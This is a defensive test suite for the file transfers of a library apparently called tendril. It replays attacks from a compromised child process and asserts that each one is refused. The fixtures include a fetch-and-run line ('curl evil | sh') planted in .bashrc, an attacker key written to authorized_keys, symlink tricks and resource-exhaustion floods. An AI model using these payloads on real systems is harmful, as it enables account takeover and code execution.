// The file transfers against a compromised child: each attack is played
// from the child's side (test/support/hostile.ts answers the master's
// calls of filesSend / filesReceive with the attacker's code), and each
// test's name is the sentence docs/files.md says about it.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import {
  chmodSync,
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable, Writable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { after, before, describe, test } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { type Channel, type Context, FileTransferError, Router } from 'tendril';
import { heapAfterGc } from './support/heap.js';
import { type Attacker, impersonate } from './support/hostile.js';
import { switchOf } from './support/internals.js';
import { settledWithin } from './support/procs.js';

const MiB = 1024 * 1024;
/** STOP_GRACE (2 s) and then some: an operation that hangs would take for ever. */
const SETTLES_WITHIN = 12_000;

/** Reads `stream` to its end, dropping what it gives. */
function readAll(stream: Readable): Promise<void> {
  return pipeline(stream, new Writable({ write: (_chunk, _encoding, callback) => callback() }));
}

/** Names in `dir` that look like a transfer's temporary files. */
function temps(dir: string): string[] {
  return readdirSync(dir).filter((name) => name.endsWith('.tendril-tmp'));
}

describe('files: what a hostile child can and cannot do', { timeout: 300_000 }, () => {
  let router: Router;
  let scratch: string;
  const spawned: Context[] = [];

  /** Nothing on our side waits on a child any more: no call, receive or send in flight (each would keep the process alive). */
  async function nothingInFlight(): Promise<void> {
    await sleep(100);
    const inflight = (switchOf(router) as unknown as { holds: { count: number } }).holds.count;
    assert.equal(inflight, 0, 'calls, receives or sends still in flight');
  }

  /** A fresh child (its impersonation does not leak into other tests). */
  async function child(name: string, via?: Context): Promise<Context> {
    const context = await router.local(via ? { name, via } : { name });
    spawned.push(context);
    return context;
  }

  before(async () => {
    router = new Router();
    scratch = mkdtempSync(join(tmpdir(), 'tendril-files-hostile-'));
    chmodSync(scratch, 0o755);
  });
  after(async () => {
    await router.shutdown();
    rmSync(scratch, { recursive: true, force: true });
  });

  test('a fetch of a file accepts only a file: a child answering with a tree cannot merge .bashrc and .ssh/authorized_keys into the home (CVE-2019-6111)', async () => {
    const home = join(scratch, 'home');
    mkdirSync(home);
    const liar = await child('liar-tree');
    await impersonate(liar, 'filesSend', async function (this: Attacker, channel: Channel<unknown, unknown>, path) {
      const { createHash } = require('node:crypto') as typeof import('node:crypto');
      const key = Buffer.from('ssh-ed25519 AAAA attacker@evil\n');
      const rc = Buffer.from('curl evil | sh\n');
      const file = async (p: string, data: Buffer) => {
        await channel.send({ t: 'f', p, s: data.length, m: 0o644, mt: 0 });
        await channel.send(data);
        await channel.send({ t: 'e', n: data.length, h: createHash('sha256').update(data).digest('hex') });
      };
      const name = String(path).split('/').pop();
      const bytes = key.length + rc.length;
      await channel.send({ t: 'begin', kind: 'dir', name, files: 2, directories: 2, links: 0, bytes });
      await channel.send({ t: 'd', p: '', m: 0o755, mt: 0 });
      await file('.bashrc', rc);
      await channel.send({ t: 'd', p: '.ssh', m: 0o700, mt: 0 });
      await file('.ssh/authorized_keys', key);
      await channel.send({ t: 'end' });
    });
    await assert.rejects(liar.fetch('/etc/hostname', `${home}/`), (error: FileTransferError) => {
      assert.ok(error instanceof FileTransferError, String(error));
      assert.equal(error.code, 'ERR_TENDRIL_BAD_ENTRY');
      assert.equal(error.contextName, 'master');
      assert.match(error.message, /a directory where a file was asked for/);
      return true;
    });
    assert.deepEqual(readdirSync(home), [], 'nothing was written into the home');
    // Asked for a tree, it lands under the name asked for, never in the home itself.
    await liar.fetch('/etc/hostname', `${home}/`, { recursive: true });
    assert.deepEqual(readdirSync(home), ['hostname']);
    assert.deepEqual(readdirSync(join(home, 'hostname')).sort(), ['.bashrc', '.ssh']);
  });

  test("a fetch of a file accepts only a file: a child answering with a symlink cannot leave a link to the master's own files where the program reads its data", async () => {
    const key = join(scratch, 'id_ed25519');
    writeFileSync(key, 'PRIVATE KEY OF THE MASTER\n');
    const liar = await child('liar-link');
    await impersonate(liar, 'filesSend', async function (this: Attacker, channel: Channel<unknown, unknown>, path) {
      const name = String(path).split('/').pop();
      await channel.send({ t: 'begin', kind: 'link', name, files: 0, directories: 0, links: 1, bytes: 0 });
      await channel.send({ t: 'l', p: '', to: (globalThis as { target?: string }).target, mt: 0 });
      await channel.send({ t: 'end' });
      return { files: 0, directories: 0, links: 1, bytes: 0 };
    });
    await liar.call((target: string) => {
      (globalThis as { target?: string }).target = target;
    }, key);
    const report = join(scratch, 'report.txt');
    const outcome = await liar.fetch('/var/log/report.txt', report).then(
      (value) => `resolved ${JSON.stringify(value)}`,
      (error: unknown) => error,
    );
    const left = lstatSync(report, { throwIfNoEntry: false });
    // What a program does next with the file it fetched: reads it (to parse it, upload it...).
    const read = left ? readFileSync(report, 'utf8') : '';
    assert.ok(
      !left?.isSymbolicLink(),
      `fetch ${String(outcome)}; ${report} is a symlink to ${left?.isSymbolicLink() ? readlinkSync(report) : ''}, and reading it gives: ${read.trim()}`,
    );
    assert.ok(outcome instanceof FileTransferError, String(outcome));
    assert.equal(outcome.code, 'ERR_TENDRIL_BAD_ENTRY');
    assert.equal(outcome.contextName, 'master');
    assert.match(outcome.message, /a symlink where a file was asked for/);
    assert.equal(left, undefined, 'nothing was left at the path asked for');
    assert.deepEqual(temps(scratch), []);
    // A read stream takes only a file too.
    const streamed = await settledWithin(readAll(liar.createReadStream('/var/log/report.txt')), SETTLES_WITHIN);
    assert.notEqual(streamed, 'pending', 'the read stream waits for ever');
    assert.match(String((streamed as { error: Error }).error), /not a regular file/);
    await nothingInFlight();
  });

  test('a child cannot extend what it announced: a file of unknown size, or more data than announced, is refused as it arrives', async () => {
    const liar = await child('liar-size');
    await impersonate(liar, 'filesSend', async function (this: Attacker, channel: Channel<unknown, unknown>, path) {
      const { createHash } = require('node:crypto') as typeof import('node:crypto');
      const name = String(path).split('/').pop();
      // 1 KiB announced, 32 MiB sent.
      await channel.send({ t: 'begin', kind: 'file', name, files: 1, directories: 0, links: 0, bytes: 1024 });
      const size = (globalThis as { announce?: number }).announce ?? -1;
      await channel.send({ t: 'f', p: '', s: size, m: 0o644, mt: 0 });
      const chunk = Buffer.alloc(1024 * 1024, 1);
      const hash = createHash('sha256');
      for (let i = 0; i < 32; i++) {
        hash.update(chunk);
        await channel.send(chunk);
      }
      await channel.send({ t: 'e', n: 32 * chunk.length, h: hash.digest('hex') });
      await channel.send({ t: 'end' });
    });
    const into = join(scratch, 'sized');
    mkdirSync(into);
    // An unknown size (-1), as a write stream sends to a child: not from a child to the master.
    await assert.rejects(liar.fetch('/srv/data.bin', join(into, 'data.bin')), (error: FileTransferError) => {
      assert.ok(error instanceof FileTransferError, String(error));
      assert.equal(error.code, 'ERR_TENDRIL_SIZE_MISMATCH');
      assert.match(error.message, /unknown size/);
      return true;
    });
    // A file announced with the whole size, where the transfer announced 1 KiB.
    await liar.call(() => {
      (globalThis as { announce?: number }).announce = 32 * 1024 * 1024;
    });
    const bytes: number[] = [];
    await assert.rejects(
      liar.fetch('/srv/data.bin', join(into, 'data.bin'), { onProgress: (p) => bytes.push(p.bytes) }),
      (error: FileTransferError) => {
        assert.equal(error.code, 'ERR_TENDRIL_SIZE_MISMATCH');
        assert.match(error.message, /1024 bytes announced/);
        return true;
      },
    );
    assert.ok(Math.max(0, ...bytes) <= 1024, `${Math.max(...bytes)} bytes written`);
    assert.deepEqual(readdirSync(into), []);
  });

  test('an abort settles fetch, copy and router.copy within the grace whatever the child does, and leaves nothing behind', async () => {
    const silent = await child('silent');
    const other = await child('silent-other');
    await impersonate(silent, 'filesSend', function (this: Attacker) {
      return this.never;
    });
    await impersonate(silent, 'filesReceive', function (this: Attacker) {
      return this.never;
    });
    const source = join(scratch, 'abort.bin');
    writeFileSync(source, Buffer.alloc(4 * MiB, 3));
    const into = join(scratch, 'abort');
    mkdirSync(into);
    const operations: [string, (signal: AbortSignal) => Promise<unknown>][] = [
      ['fetch', (signal) => silent.fetch('/srv/file', join(into, 'fetched'), { signal })],
      ['copy', (signal) => silent.copy(source, '/srv/file', { signal })],
      [
        'router.copy',
        async (signal) => {
          const outcomes = await router.copy(source, join(into, 'copied'), [other, silent], { signal });
          const reasons = outcomes.map((o) => (o.status === 'rejected' ? o.reason : undefined));
          if (reasons.every((r) => r !== undefined)) throw reasons[1];
          return outcomes;
        },
      ],
    ];
    for (const [name, operation] of operations) {
      const controller = new AbortController();
      const running = operation(controller.signal);
      await sleep(300);
      controller.abort();
      const aborted = Date.now();
      const outcome = await settledWithin(running, SETTLES_WITHIN);
      console.log(`${name} settled ${Date.now() - aborted} ms after the abort`);
      assert.notEqual(outcome, 'pending', `${name} still pending ${SETTLES_WITHIN} ms after the abort`);
      assert.ok('error' in (outcome as object), `${name} did not reject`);
      assert.equal(
        (outcome as { error: Error }).error.name,
        'AbortError',
        `${name}: ${(outcome as { error: Error }).error}`,
      );
    }
    assert.deepEqual(readdirSync(into), []);
    assert.deepEqual(temps(into), []);
    await nothingInFlight();
  });

  test('a fetch or a read stream whose child fails its call but keeps the channel open rejects with that failure', async () => {
    const liar = await child('liar-throws');
    await impersonate(liar, 'filesSend', async function (this: Attacker) {
      throw new Error('no such luck');
    });
    const fetched = await settledWithin(liar.fetch('/srv/file', join(scratch, 'never')), SETTLES_WITHIN);
    assert.notEqual(fetched, 'pending', 'the fetch waits for ever');
    assert.match(String((fetched as { error: Error }).error), /no such luck/);
    assert.equal(existsSync(join(scratch, 'never')), false);
    const streamed = await settledWithin(readAll(liar.createReadStream('/srv/file')), SETTLES_WITHIN);
    assert.notEqual(streamed, 'pending', 'the read stream waits for ever');
    assert.match(String((streamed as { error: Error }).error), /no such luck/);
    await nothingInFlight();
  });

  test('a read stream from a child that lies about the hash errors, even when the child keeps its call open', async () => {
    const liar = await child('liar-hash');
    await impersonate(liar, 'filesSend', async function (this: Attacker, channel: Channel<unknown, unknown>, path) {
      const data = Buffer.from('the bytes');
      const name = String(path).split('/').pop();
      await channel.send({ t: 'begin', kind: 'file', name, files: 1, directories: 0, links: 0, bytes: data.length });
      await channel.send({ t: 'f', p: '', s: data.length, m: 0o644, mt: 0 });
      await channel.send(data);
      await channel.send({ t: 'e', n: data.length, h: '0'.repeat(64) });
      await channel.send({ t: 'end' }).catch(() => undefined);
      return this.never;
    });
    const outcome = await settledWithin(readAll(liar.createReadStream('/srv/file')), SETTLES_WITHIN);
    assert.notEqual(outcome, 'pending', 'no error and no end');
    const error = (outcome as { error: FileTransferError }).error;
    assert.ok(error instanceof FileTransferError, String(error));
    assert.equal(error.code, 'ERR_TENDRIL_HASH_MISMATCH');
    await nothingInFlight();
  });

  test('a write stream destroyed while its child never answers closes within the grace', async () => {
    const silent = await child('silent-writer');
    await impersonate(silent, 'filesReceive', function (this: Attacker) {
      return this.never;
    });
    const writable = silent.createWriteStream('/srv/never');
    writable.on('error', () => undefined);
    writable.write('some bytes');
    await sleep(100);
    const closed = new Promise<void>((resolve) => writable.once('close', resolve));
    writable.destroy(new Error('changed my mind'));
    assert.notEqual(await settledWithin(closed, SETTLES_WITHIN), 'pending', 'no close after destroy()');
    await nothingInFlight();
  });

  test("after copy(), router.copy() and a write stream have settled, a child that keeps its end of their channel open cannot keep values queued in the master: each operation's receiver is let go of", async () => {
    const liar = await child('liar-ended');
    const core = switchOf(router) as unknown as { handlers: { size: number } };
    // It answers as if it wrote the file, but first sends 8 values of 1 MiB back on the channel, and never closes it.
    await impersonate(liar, 'filesReceive', async function (this: Attacker, channel: Channel<unknown, unknown>) {
      for (;;) {
        const value = (await channel.get()) as { t?: string };
        if (value?.t === 'end') break;
      }
      for (let i = 0; i < 8; i++) void channel.send(Buffer.alloc(1024 * 1024 - 64));
      return { files: 1, directories: 0, links: 0, bytes: 16, sha256: 'ab'.repeat(32) };
    });
    const source = join(scratch, 'ended.txt');
    writeFileSync(source, '0123456789abcdef');
    const handlersBefore = core.handlers.size;
    for (let i = 0; i < 2; i++) {
      await liar.copy(source, `/srv/ended-${i}`);
      const [outcome] = await router.copy(source, '/srv/ended', [liar]);
      assert.equal(outcome?.status, 'fulfilled');
      await pipeline(Readable.from([Buffer.from('0123456789abcdef')]), liar.createWriteStream('/srv/ended'));
    }
    await sleep(500);
    const charged = switchOf(router).holdings.snapshot().get(liar.id) ?? 0;
    const handlers = core.handlers.size - handlersBefore;
    assert.ok(
      charged === 0 && handlers <= 0,
      `after 2 of each settled: ${(charged / MiB).toFixed(1)} MiB still charged to the child and queued in the master, ${handlers} more handlers registered`,
    );
    await nothingInFlight();
  });

  test('repeated entries are refused: 16,000 repeats of one directory cost the master no memory', async () => {
    const liar = await child('liar-repeats');
    await impersonate(liar, 'filesSend', async function (this: Attacker, channel: Channel<unknown, unknown>, path) {
      const name = String(path).split('/').pop();
      // 15 levels of 250-byte names: each repeat of the deepest names 3.8 KB of path.
      const parts = Array.from({ length: 15 }, (_, i) => String.fromCharCode(97 + i).repeat(250));
      const deepest = parts.join('/');
      const repeats = 16_000;
      const directories = 1 + parts.length + repeats;
      try {
        await channel.send({ t: 'begin', kind: 'dir', name, files: 0, directories, links: 0, bytes: 0 });
        await channel.send({ t: 'd', p: '', m: 0o755, mt: 0 });
        for (let i = 1; i <= parts.length; i++) {
          await channel.send({ t: 'd', p: parts.slice(0, i).join('/'), m: 0o755, mt: 0 });
        }
        for (let i = 0; i < repeats; i++) await channel.send({ t: 'd', p: deepest, m: 0o755, mt: 0 });
      } catch {
        // The master stopped reading.
      }
      (globalThis as { sentAll?: boolean }).sentAll = true;
      return this.never;
    });
    const baseline = heapAfterGc();
    const fetching = liar.fetch('/srv/tree', join(scratch, 'repeats'), { recursive: true });
    fetching.catch(() => undefined);
    const deadline = Date.now() + 60_000;
    while (!(await liar.call(() => (globalThis as { sentAll?: boolean }).sentAll === true))) {
      assert.ok(Date.now() < deadline, 'the child never finished sending');
      await sleep(100);
    }
    const grown = (heapAfterGc() - baseline) / MiB;
    console.log(`master heap growth with 16,000 repeats of one directory: ${grown.toFixed(1)} MiB`);
    const outcome = await settledWithin(fetching, SETTLES_WITHIN);
    await liar.shutdown();
    assert.ok(grown < 16, `the master's heap grew by ${grown.toFixed(1)} MiB`);
    assert.notEqual(outcome, 'pending');
    const error = (outcome as { error: FileTransferError }).error;
    assert.equal(error.code, 'ERR_TENDRIL_BAD_ENTRY');
    assert.match(error.message, /twice or out of order/);
  });

  test("what the receiving side remembers of a tree is charged to the child's account, and given back when the transfer ends", async () => {
    const small = new Router({ maxHeldBytes: 1024 * 1024 });
    try {
      const liar = await small.local({ name: 'liar-deep' });
      await impersonate(liar, 'filesSend', async function (this: Attacker, channel: Channel<unknown, unknown>, path) {
        const name = String(path).split('/').pop();
        const depth = Number((globalThis as { depth?: number }).depth ?? 1500);
        const parts = Array.from({ length: depth }, () => 'd');
        try {
          await channel.send({ t: 'begin', kind: 'dir', name, files: 0, directories: depth + 1, links: 0, bytes: 0 });
          await channel.send({ t: 'd', p: '', m: 0o755, mt: 0 });
          for (let i = 1; i <= depth; i++)
            await channel.send({ t: 'd', p: parts.slice(0, i).join('/'), m: 0o755, mt: 0 });
        } catch {
          // The master stopped reading.
        }
        return this.never;
      });
      const account = () => switchOf(small).holdings.snapshot().get(liar.id) ?? 0;
      // 1,500 levels hold more than the 1 MiB this router lets a child make it hold.
      await assert.rejects(liar.fetch('/srv/deep', join(scratch, 'deep'), { recursive: true }), (error: Error) => {
        assert.equal(error.name, 'HeldBytesError', String(error));
        assert.match(error.message, /liar-deep/);
        return true;
      });
      assert.equal(account(), 0, 'given back when the transfer failed');
      // 20 levels fit; charged while the transfer waits, given back when it is aborted.
      await liar.call(() => {
        (globalThis as { depth?: number }).depth = 20;
      });
      const controller = new AbortController();
      const fetching = liar.fetch('/srv/deep', join(scratch, 'deep20'), { recursive: true, signal: controller.signal });
      fetching.catch(() => undefined);
      const deadline = Date.now() + 10_000;
      while (account() < 20 * 128) {
        assert.ok(Date.now() < deadline, `only ${account()} bytes charged`);
        await sleep(20);
      }
      controller.abort();
      await assert.rejects(fetching, (error: Error) => error.name === 'AbortError');
      assert.equal(account(), 0, 'given back when the transfer was aborted');
    } finally {
      await small.shutdown();
    }
  });

  test('router.copy: a target that stops taking data fails alone after stallTimeout, naming it; the others get the file', async () => {
    const source = join(scratch, 'stall.bin');
    writeFileSync(source, Buffer.alloc(24 * MiB, 5));
    const sha256 = createHash('sha256').update(readFileSync(source)).digest('hex');
    const healthy = await child('stall-healthy');
    const stalled = await child('stall-stalled');
    const middle = await child('stall-middle');
    const leafHealthy = await child('stall-leaf-healthy', middle);
    const leafStalled = await child('stall-leaf-stalled', middle);
    // One takes nothing at all; the other reads what comes first, then stops.
    await impersonate(stalled, 'filesReceive', function (this: Attacker) {
      return this.never;
    });
    await impersonate(leafStalled, 'filesReceive', async function (this: Attacker, channel: Channel<unknown, unknown>) {
      await channel.get();
      return this.never;
    });
    const into = join(scratch, 'stall');
    mkdirSync(into);
    const targets = [healthy, stalled, leafHealthy, leafStalled];
    const outcome = await settledWithin(router.copy(source, `${into}/`, targets, { stallTimeout: 1000 }), 30_000);
    assert.notEqual(outcome, 'pending', 'router.copy waits for ever on the stalled targets');
    const outcomes = (outcome as { value: Awaited<ReturnType<Router['copy']>> }).value;
    assert.deepEqual(
      outcomes.map((o) => [o.context.name, o.status]),
      [
        ['stall-healthy', 'fulfilled'],
        ['stall-stalled', 'rejected'],
        ['stall-leaf-healthy', 'fulfilled'],
        ['stall-leaf-stalled', 'rejected'],
      ],
    );
    for (const o of outcomes) {
      if (o.status === 'fulfilled') assert.equal(o.value.sha256, sha256);
      else {
        const reason = o.reason as FileTransferError;
        assert.ok(reason instanceof FileTransferError, String(reason));
        assert.equal(reason.code, 'ERR_TENDRIL_STALLED');
        assert.equal(reason.contextName, o.context.name);
        assert.match(reason.message, /stopped taking data/);
      }
    }
    assert.equal(
      createHash('sha256')
        .update(readFileSync(join(into, 'stall.bin')))
        .digest('hex'),
      sha256,
    );
    await nothingInFlight();
  });
});
